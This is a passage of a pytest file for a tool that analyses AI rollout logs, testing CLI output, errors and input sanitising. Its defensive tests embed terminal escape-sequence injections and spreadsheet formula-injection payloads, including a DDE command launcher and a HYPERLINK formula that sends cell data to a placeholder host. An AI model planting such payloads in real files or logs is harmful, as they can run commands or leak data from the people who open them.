    out = capsys.readouterr().out
    assert f"step10: {lib.attrs['failures']} failing of {lib.attrs['rollouts']} rollouts, {len(lib)} modes" in out
    modes = [[m] for m in lib["mode"]]
    table = {line.split()[0]: line.split() for line in out.splitlines() if line.split()[:1] in modes}
    for row in lib.itertuples():
        assert table[row.mode][1:3] == [row.kind, str(row.rollouts)]
        assert row.label in out
        assert f"  {row.mode}: {', '.join(row.examples[:2])}" in out
    assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--seed", "1", "--n-boot", "200",
                 "--json"]) == 0
    assert [m["rollouts"] for m in json.loads(capsys.readouterr().out)] == list(lib.rollouts)

    diff = _lib(judged_db, lambda con: failure_modes_diff(con, "base", "step10", n_boot=200))
    assert main(["failure-modes", "--db", str(judged_db), "--run", "base", "--candidate", "step10",
                 "--n-boot", "200"]) == 0
    out = capsys.readouterr().out
    assert diff.attrs["sentence"] in out
    modes = [[m] for m in diff["mode"]]
    table = [line.split() for line in out.splitlines() if "->" in line and line.split()[:1] in modes]
    assert [(r[0], r[2], r[3]) for r in table] == [(r.mode, str(r.base_rollouts), str(r.candidate_rollouts))
                                                   for r in diff.itertuples()]
    assert [next(v for v in r if v in VERDICTS) for r in table] == list(diff.verdict)
    assert main(["failure-modes", "--db", str(judged_db), "--run", "base", "--candidate", "base"]) == 2


def test_failure_mode_verdicts_state_their_test_and_k_is_checked(judged_db, capsys):
    from rolloutlab.text import fmt
    from rolloutlab.analysis.failure_modes import failure_modes, failure_modes_diff

    capsys.readouterr()
    assert main(["failure-modes", "--db", str(judged_db), "--run", "base", "--candidate", "step10", "--n-boot", "0",
                 "--adjust", "bh", "--holdout", "0.5", "--n-perm", "500"]) == 0
    out = capsys.readouterr().out
    diff = _lib(judged_db, lambda con: failure_modes_diff(con, "base", "step10", n_boot=0, adjust="bh", holdout=0.5,
                                                          n_perm=500))
    assert (f"counted and tested on {diff.attrs['samples_tested']} samples held out of the fit "
            f"({diff.attrs['samples_fitted']} fitted); verdicts: permutation p-values, Benjamini-Hochberg (false "
            "discovery rate) adjustment across modes, alpha 0.05") in out
    rows = [line.split() for line in out.splitlines() if "->" in line and line.split()[:1] in [[m] for m in diff["mode"]]]
    assert [r[0] for r in rows] == list(diff["mode"])
    for r, p in zip(rows, diff.p_adjusted):
        assert fmt.number(p) in r
    n = _lib(judged_db, lambda con: failure_modes(con, "step10", n_boot=0).attrs["model_failures"])
    for k, words in (("0", "--k 0: give a number of modes from 1 to the number of model failures"),
                     ("-3", "--k -3: give a number of modes from 1"),
                     (str(n + 1), f"k={n + 1}: give a number of modes from 1 to {n} (the model failures to group)")):
        assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--k", k]) == 2
        assert words in capsys.readouterr().err
    assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--k", str(n), "--n-boot", "0"]) == 0


def test_failure_modes_named_by_the_teams_model(judged_db, capsys, monkeypatch):
    """--labeler asks the OpenAI-compatible endpoint of $ROLLOUTLAB_LABELER_URL (a fake one on
    loopback here); without it configured, a usage error that says what to set."""
    from rolloutlab import config
    from test_failure_labeler import FakeModel

    monkeypatch.delenv(config.LABELER_URL_ENV_VAR, raising=False)
    capsys.readouterr()
    assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--labeler"]) == 2
    assert f"set ${config.LABELER_URL_ENV_VAR}" in capsys.readouterr().err
    fake = FakeModel()
    try:
        monkeypatch.setenv(config.LABELER_URL_ENV_VAR, fake.url)
        monkeypatch.setenv(config.LABELER_MODEL_ENV_VAR, "team-model")
        assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--labeler", "--n-boot", "0"]) == 0
        assert "answers without reading the report" in capsys.readouterr().out and fake.requests
        fake.status = 500
        assert main(["failure-modes", "--db", str(judged_db), "--run", "step10", "--labeler", "--n-boot", "0"]) == 0
        out, err = capsys.readouterr()
        assert "the labeller failed for F1: ValueError:" in err and "the automatic label stays" in err
    finally:
        fake.close()


def test_control_characters_from_logs_never_reach_the_terminal(tmp_path, capsys):
    from conftest import rollout, write_jsonl

    # a run, model and tool named with escape sequences that would retitle and clear a terminal
    evil = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred\r"
    records = [rollout(f"r{evil}", f"s{i % 2}", float(i % 2), tools=[f"t{evil}"], model=f"m{evil}") for i in range(4)]
    db = tmp_path / "evil.duckdb"
    assert main(["ingest", "--db", str(db), str(write_jsonl(tmp_path / "evil.jsonl", records))]) == 0
    capsys.readouterr()
    for argv in (["runs"], ["summary"], ["tokens", "--by", "tool"], ["cost"], ["curate", "--run", f"r{evil}"],
                 ["failure-modes", "--run", f"r{evil}"], ["summary", "--run", "no such run"]):
        main([*argv, "--db", str(db)])
        out, err = capsys.readouterr()
        for text in (out, err):
            assert "\x1b" not in text and "\x07" not in text and "\r" not in text, argv
        assert "\\x1b]0;PWNED\\x07" in out + err, argv  # shown, escaped, never dropped


def test_the_sheet_to_label_guards_formulas_and_line_breaks(tmp_path, capsys):
    import csv

    from conftest import rollout, write_jsonl

    formula_run, formula_id = "=cmd|' /C calc'!A0", '=HYPERLINK("http://e/?"&A1)'
    records = [rollout(formula_run, "x\r=2+2", 1.0, rollout_id=formula_id)]
    db = tmp_path / "f.duckdb"
    assert main(["ingest", "--db", str(db), str(write_jsonl(tmp_path / "f.jsonl", records))]) == 0
    sheet = tmp_path / "sheet.csv"
    assert main(["labels", "sample", "--db", str(db), "--run", formula_run, "--out", str(sheet)]) == 0
    rows = list(csv.DictReader(sheet.open(newline="")))
    assert len(rows) == 1  # the \r inside the sample id did not start a row
    assert rows[0]["rollout_id"] == "'" + formula_id and rows[0]["run"] == "'" + formula_run
    assert rows[0]["sample_id"] == "x\r=2+2"
    capsys.readouterr()
    (tmp_path / "dir.csv").mkdir()
    assert main(["labels", "export", "--db", str(db), "--out", str(tmp_path / "dir.csv")]) == 2
    assert "is a folder" in capsys.readouterr().err
    with pytest.raises(SystemExit) as stop:
        main(["capacity", "--db", str(db), "--run", formula_run, "--steps", "99999999999999999999"])
    assert stop.value.code == 2 and "from 1 to 1,000,000" in capsys.readouterr().err


def test_runs_grouped_merged_and_renamed(db_path, tmp_path, capsys):
    """Runs of one experiment are listed together; merge and rename are kept across re-ingest."""
    for name, created in (("a", "2025-01-01T00:00:00"), ("b", "2025-01-02T00:00:00")):
        (tmp_path / f"{name}.jsonl").write_text("".join(json.dumps(
            {"run": "m/t", "run_meta": {"evaluation": name, "tag": created}, "sample_id": f"q{i}", "score": 1.0}) + "\n"
            for i in range(2)))
    assert main(["ingest", str(tmp_path / "a.jsonl"), str(tmp_path / "b.jsonl"), "--db", str(db_path)]) == 0
    capsys.readouterr()
    assert main(["runs", "--db", str(db_path)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split()[:2] == ["experiment", "run"]
    assert out[1].split()[:2] == ["m/t", "m/t@2025-01-01T00:00:00"] and out[2].split()[0] == "m/t@2025-01-02T00:00:00"
    assert main(["runs", "--db", str(db_path), "--json", "--group"]) == 0
    assert [(g["label"], g["runs"], g["rollouts"]) for g in json.loads(capsys.readouterr().out)] == [("m/t", 2, 4)]
    assert main(["runs", "merge", "m/t", "--as", "m/t all", "--db", str(db_path)]) == 0
    assert "are now one run: m/t all" in capsys.readouterr().out
    # --db before the subcommand means the same database (never the default one)
    assert main(["runs", "--db", str(db_path), "rename", "m/t all", "final"]) == 0
    assert main(["runs", "rename", "nope", "x", "--db", str(db_path)]) == 2
    assert "run 'nope' not found" in capsys.readouterr().err
    (tmp_path / "a.jsonl").write_text((tmp_path / "a.jsonl").read_text() + json.dumps(
        {"run": "m/t", "run_meta": {"evaluation": "a", "tag": "2025-01-01T00:00:00"}, "sample_id": "q9", "score": 0.0}) + "\n")
    assert main(["ingest", str(tmp_path / "a.jsonl"), "--db", str(db_path)]) == 0
    assert "appended (native) - 1 records, 1 loaded, 0 rejected: run final" in capsys.readouterr().out
    assert main(["runs", "--db", str(db_path), "--json"]) == 0
    assert [(r["run"], r["rollouts"]) for r in json.loads(capsys.readouterr().out)] == [("final", 5)]


def test_json_output_stays_json_when_logs_hold_del_and_c1_characters(tmp_path, capsys):
    """#34: DEL (0x7f) and C1 characters, which JSON writers leave raw, were rewritten by the
    terminal filter as the four characters \\x7f: `--json` output no longer parsed. Escaped for
    JSON first, it parses, and the label comes back exactly."""
    from conftest import rollout, write_jsonl

    odd = "r\x7fx\x85y\x9b[2Jz\x1b[31m\u2028"
    records = [rollout(odd, f"s{i % 3}\x7f", float(i % 2), tools=[f"t\x7f{i % 2}"], model=f"m\x7f\x90",
                       answer="a\x7f", prompt=f"What is {i % 3}\x7f?", reference="b\x7f",
                       usage={"input_tokens": 100, "output_tokens": 10}, cost_usd=0.01) for i in range(12)]
    db = tmp_path / "del.duckdb"
    assert main(["ingest", "--db", str(db), str(write_jsonl(tmp_path / "del.jsonl", records))]) == 0
    capsys.readouterr()
    commands = (["runs"], ["summary"], ["cost"], ["cost", "--by", "sample"], ["tokens", "--by", "tool"],
                ["truncation"], ["rejects"], ["check", "--run", odd], ["audit", "--run", odd],
                ["curate", "--run", odd], ["curate", "--run", odd, "--min-attempts", "1", "--band", "0", "1",
                                           "--out", str(tmp_path / "out"), "--to", "jsonl"])
    for argv in commands:
        assert main([*argv, "--db", str(db), "--json"]) in (0, 1), argv  # check: 1 when a check fails
        out = capsys.readouterr().out
        assert "\x7f" not in out and "\x85" not in out and "\x1b" not in out, argv
        doc = json.loads(out)
        if argv[0] in ("runs", "summary", "cost"):
            assert odd in {row["run"] for row in doc}, argv
    manifest = json.loads((tmp_path / "out" / "curation.json").read_text())
    assert manifest["run"] == odd


def test_an_output_path_that_cannot_be_written_is_named_exit_2(judged_db, tmp_path, capsys):
    """#34: an output under /sys (read-only) or /proc/self (no such folder) was "a defect of
    rolloutlab" (exit 1). It is the path's: named, exit 2."""
    if not os.path.isdir("/sys/kernel") or not os.path.isdir("/proc/self"):
        pytest.skip("needs Linux's /sys and /proc")
    cases = [(["curate", "--run", "step10", "--no-keep-validation", "--out", "/sys/kernel/rl-out"], "/sys/kernel/rl-out"),
             (["curate", "--run", "step10", "--no-keep-validation", "--out", "/proc/self/rl-out"], "/proc/self/rl-out"),
             (["labels", "sample", "--run", "step10", "--out", "/sys/kernel/sheet.csv"], "/sys/kernel/sheet.csv"),
             (["labels", "export", "--out", "/sys/kernel/labels.csv"], "/sys/kernel/labels.csv"),
             (["export", "--to", "/sys/kernel/lake"], "/sys/kernel/lake"),
             (["report", "--base", "base", "--candidate", "step10", "-o", "/proc/self/x/report.html", "--n-boot", "50"],
              "/proc/self/x/report.html"),
             (["report", "--base", "base", "--candidate", "step10", "-o", "/sys/kernel/report.html", "--n-boot", "50"],
              "/sys/kernel/report.html")]
    for argv, path in cases:
        argv = [argv[0], "--db", str(judged_db), *argv[1:]] if argv[0] != "labels" else \
            [*argv[:2], "--db", str(judged_db), *argv[2:]]
        assert main(argv) == 2, argv
        err = capsys.readouterr().err
        assert f"cannot write {path} (" in err and "a path you can write to" in err, (argv, err)
        assert "defect" not in err, argv
    assert main(["synth", "--out", "/sys/kernel/synth"]) == 2
    assert "cannot write /sys/kernel/synth" in capsys.readouterr().err


def test_a_price_file_with_a_400_digit_number_is_the_price_error(judged_db, tmp_path, capsys):
    prices = tmp_path / "huge.toml"
    prices.write_text(f'[models."gpt-4.1"]\ninput = {"9" * 400}\noutput = 1\n')
    assert main(["cost", "--db", str(judged_db), "--prices", str(prices)]) == 2
    err = capsys.readouterr().err
    assert f"price of 'gpt-4.1' ({prices}): input must be a number of dollars per 1M tokens" in err
    assert "defect" not in err


def test_runs_scale_records_a_reward_range_that_every_command_uses(db_path, tmp_path, capsys):
    """Issue 36: `runs scale` sets a run's reward range and pass threshold; `runs` shows them and
    `summary` judges at them (no --pass-threshold given: the run's own, not 1.0)."""
    from conftest import rollout, write_jsonl

    path = write_jsonl(tmp_path / "g.jsonl", [rollout("g", "s1", 0.6), rollout("g", "s1", -1.0),
                                              rollout("g", "s2", None, status="model_error")])
    assert main(["ingest", str(path), "--db", str(db_path)]) == 0
    assert main(["runs", "scale", "g", "--range", "-1", "1", "--pass-threshold", "0.5", "--db", str(db_path)]) == 0
    assert "run g: {'reward_range': [-1.0, 1.0], 'pass_threshold': 0.5}" in capsys.readouterr().out
    assert main(["runs", "--db", str(db_path)]) == 0
    out = capsys.readouterr().out
    assert "rewards" in out and "-1 to 0.6 (of -1 to 1)" in out and "pass_at" in out
    assert main(["summary", "--db", str(db_path), "--json"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    # s1 passes once in two at 0.5; s2's broken attempt counts -1, never 0
    assert row["pass_threshold"] == 0.5 and row["reward_floor"] == -1.0
    assert row["mean_score"] == pytest.approx((0.6 - 1 - 1) / 3) and row["pass_at_1"] == pytest.approx(0.25)
    assert main(["runs", "scale", "g", "--db", str(db_path)]) == 2  # nothing to set: a usage error
